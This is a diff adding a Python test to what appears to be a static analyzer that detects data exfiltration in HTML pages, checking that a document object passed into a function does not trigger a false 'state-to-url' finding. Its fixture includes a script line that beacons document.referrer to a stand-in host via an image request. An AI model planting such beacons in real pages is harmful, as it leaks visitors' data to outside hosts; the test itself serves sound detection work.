@@ -207,3 +207,11 @@ def test_a_style_rule_that_loads_only_with_some_state_is_reported_with_its_paths
 ])
 def test_a_style_rule_whose_load_does_not_depend_on_the_state_is_not(source):
     assert not [f for f in review_static(source, file="b.html") if f.rule == "exfil.css-state-selector"]
+
+
+def test_the_document_handed_to_a_function_that_writes_the_state_into_it_stays_the_document():
+    """An argument holds what its parameter holds only for the scripts' own names: the document,
+    the window or location handed on would otherwise make every read of them the state."""
+    source = (HEAD + "function setup(doc) { doc.title = flowUi.get('c.name'); } setup(document);\n"
+              "new Image().src = 'https://e.example/' + document.referrer;\n</script>")
+    assert not [f for f in review_static(source, file="b.html", fields=["c.name"]) if f.rule == "exfil.state-to-url"]
